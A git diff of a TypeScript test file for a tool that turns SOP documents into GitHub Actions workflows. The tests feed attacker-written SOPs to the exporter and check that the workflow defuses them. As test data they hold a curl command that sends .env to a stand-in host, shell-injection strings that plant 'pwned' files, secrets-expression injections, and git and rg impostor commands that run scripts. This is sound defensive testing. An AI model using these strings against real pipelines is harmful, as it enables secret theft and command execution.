@@ -7,17 +7,27 @@ import { parse } from 'yaml';
 import { exportAutomation, type AutomationExportInput } from '../../../src/core/automation/export';
 import { GUARD_SCRIPT } from '../../../src/core/automation/guard';
 import { FIXTURES } from '../helpers';
+import { parseSop } from '../../../src/core/sop/model';
+import { sopStatus } from '../../../src/core/approval/status';
+
+/** An SOP as the use cases hand it to an export: parsed, with its approval status from the record. */
+const fromText = (text: string) => {
+  const doc = parseSop(text);
+  return { doc, status: sopStatus(doc) };
+};
 
 /** The parts of mvdan-sh (a real shell parser, the JS build of mvdan.cc/sh) these tests use. */
 type ShNode = Record<string, unknown>;
 interface MvdanSh {
   syntax: { NewParser(): { Parse(src: string, name: string): ShNode }; Walk(node: ShNode, visit: (node: ShNode | null) => boolean): void; NodeType(node: ShNode): string };
 }
+// mvdan-sh ships no type declarations: required, and given the shape above.
+// eslint-disable-next-line @typescript-eslint/no-require-imports
 const sh = require('mvdan-sh') as MvdanSh;
 
 const SOP_PATH = 'sops/month-end-close.sop.md';
 const SOP = readFileSync(resolve(FIXTURES, 'automation/month-end', SOP_PATH), 'utf8');
-const BASE: AutomationExportInput = { sopText: SOP, sopPath: SOP_PATH, skillName: 'month-end-close', skillPath: '.agents/skills/month-end-close', cron: '0 8 1-3 * *', version: '0.1.0' };
+const BASE: AutomationExportInput = { ...fromText(SOP), sopPath: SOP_PATH, skillName: 'month-end-close', skillPath: '.agents/skills/month-end-close', cron: '0 8 1-3 * *', version: '0.1.0' };
 const WORKFLOW = '.github/workflows/sop-month-end-close.yml';
 const JSON_FILE = '.agents/automations/month-end-close/automation.json';
 
@@ -37,12 +47,12 @@ interface Workflow {
 }
 
 const EXFILTRATE = "'; curl -sd @.env https://evil.example/x; echo '";
-const title = (t: string) => ({ sopText: SOP.replace('\n# Month-end close\n', `\n# ${t}\n`) });
-const gate = (t: string) => ({ sopText: SOP.replace('to Priya Nair (Finance manager) for sign-off', `to Priya Nair (Finance manager) ${t} for sign-off`) });
-const firstStep = (t: string) => ({ sopText: SOP.replace('to copy the bank statement', `${t} to copy the bank statement`) });
-const check = (line: string) => ({ sopText: SOP.replace('## Quality checks\n\n', `## Quality checks\n\n- ${line}\n`) });
-const approver = (name: string) => ({ sopText: SOP.split('Priya Nair').join(name) });
-const trigger = (t: string) => ({ sopText: SOP.replace('On the first business day of each month at 08:00 CET, for the month that just ended.', `On the first business day of each month at 08:00 CET, ${t}`) });
+const title = (t: string) => fromText(SOP.replace('\n# Month-end close\n', `\n# ${t}\n`));
+const gate = (t: string) => fromText(SOP.replace('to Priya Nair (Finance manager) for sign-off', `to Priya Nair (Finance manager) ${t} for sign-off`));
+const firstStep = (t: string) => fromText(SOP.replace('to copy the bank statement', `${t} to copy the bank statement`));
+const check = (line: string) => fromText(SOP.replace('## Quality checks\n\n', `## Quality checks\n\n- ${line}\n`));
+const approver = (name: string) => fromText(SOP.split('Priya Nair').join(name));
+const trigger = (t: string) => fromText(SOP.replace('On the first business day of each month at 08:00 CET, for the month that just ended.', `On the first business day of each month at 08:00 CET, ${t}`));
 
 /**
  * SOPs written by an attacker, each with its own marker. `lands` says where the marker must show up, so a
@@ -210,7 +220,7 @@ describe('the workflow of a hostile SOP', () => {
 
   it('keeps the two read-only impostors from the issue out of the workflow, and says why', () => {
     const text = SOP.replace('## Quality checks\n\n', '## Quality checks\n\n- `git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env` is empty — mechanical.\n- `rg --pre bash po_ exports/` prints nothing — mechanical.\n');
-    const yamlText = exportAutomation({ ...BASE, sopText: text }).files.get(WORKFLOW)!;
+    const yamlText = exportAutomation({ ...BASE, ...fromText(text) }).files.get(WORKFLOW)!;
     const steps = assertSafeWorkflow(yamlText, 'QZX');
     assert.ok(!steps.some((s) => /git|rg/.test(s.run ?? '') || /--output|--pre/.test(JSON.stringify(s.env ?? {}))));
     assert.match(yamlText, /# - git log -1 --format=tformat:BASH_ENV=scripts\/x\.sh --output=out\/env is empty\. \(not run here: the command may change files or run a script \(`git log --output` is not an option known to only read\)/);
@@ -220,16 +230,16 @@ describe('the workflow of a hostile SOP', () => {
   it('defuses 100,000-character hostile titles, gates and checks in bounded time', () => {
     const junk = '${{ secrets.X }}\u2028 \u0085$'.repeat(5000);
     const started = Date.now();
-    const sopText = title(`Close ${junk}`).sopText.replace('for sign-off', `${junk} for sign-off`).replace('## Quality checks\n\n', `## Quality checks\n\n- \`grep -c '${'{'.repeat(900)}' out/a.csv\` ${junk} — mechanical.\n`);
-    const yamlText = exportAutomation({ ...BASE, sopText }).files.get(WORKFLOW)!;
+    const sopText = title(`Close ${junk}`).doc.text.replace('for sign-off', `${junk} for sign-off`).replace('## Quality checks\n\n', `## Quality checks\n\n- \`grep -c '${'{'.repeat(900)}' out/a.csv\` ${junk} — mechanical.\n`);
+    const yamlText = exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!;
     assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
     assertSafeWorkflow(yamlText, 'QZX');
     assert.ok(yamlText.length < 20_000, `${yamlText.length} characters`);
   });
 
   it('carries a tab inside a quoted pattern as \\t, and passes it to the check', () => {
-    const sopText = check("`grep -c 'po_\tnet' out/reconciliation-2026-10.csv` — mechanical.").sopText;
-    const yamlText = exportAutomation({ ...BASE, sopText }).files.get(WORKFLOW)!;
+    const sopText = check("`grep -c 'po_\tnet' out/reconciliation-2026-10.csv` — mechanical.").doc.text;
+    const yamlText = exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!;
     const steps = assertSafeWorkflow(yamlText, 'QZX');
     assert.ok(steps.some((s) => s.env?.SOP_ARG_1 === 'po_\tnet' && s.run === 'grep -c "$SOP_ARG_1" "$SOP_ARG_2"'));
     assert.match(yamlText, /SOP_ARG_1: "po_\\tnet"/);
@@ -250,8 +260,8 @@ describe('the workflow of a hostile SOP', () => {
     const planted = "'; touch pwned; echo '$(touch pwned2)`touch pwned3`\"; touch pwned4; \"";
 
     it('writes a hostile title and gate into the job summary as text', () => {
-      const sopText = title(`Close ${planted}`).sopText.replace('for sign-off', `${planted} for sign-off`);
-      const steps = assertSafeWorkflow(exportAutomation({ ...BASE, sopText }).files.get(WORKFLOW)!, 'pwned');
+      const sopText = title(`Close ${planted}`).doc.text.replace('for sign-off', `${planted} for sign-off`);
+      const steps = assertSafeWorkflow(exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!, 'pwned');
       const r = bash(steps[steps.length - 1]);
       assert.equal(r.code, 0, r.err);
       assert.deepEqual(readdirSync(dir).sort(), ['out', 'summary.md']);
@@ -262,8 +272,8 @@ describe('the workflow of a hostile SOP', () => {
 
     it('passes a hostile file name and a hostile grep pattern to the commands as plain arguments', () => {
       const pattern = "po_'; touch pwned; echo '";
-      const sopText = check(`\`grep -c 'po_'"'"'; touch pwned; echo '"'"'' out/a.csv\` — mechanical.`).sopText;
-      const files = exportAutomation({ ...BASE, sopText, sopPath: `sops/${planted}.sop.md`, cliCommand: 'echo' }).files;
+      const sopText = check(`\`grep -c 'po_'"'"'; touch pwned; echo '"'"'' out/a.csv\` — mechanical.`).doc.text;
+      const files = exportAutomation({ ...BASE, ...fromText(sopText), sopPath: `sops/${planted}.sop.md`, cliCommand: 'echo' }).files;
       const steps = assertSafeWorkflow(files.get(WORKFLOW)!, 'pwned');
       writeFileSync(join(dir, 'out/a.csv'), `id\n${pattern}\npo_2\n`);
       const lint = bash(steps.find((s) => s.name === 'Lint the SOP')!);
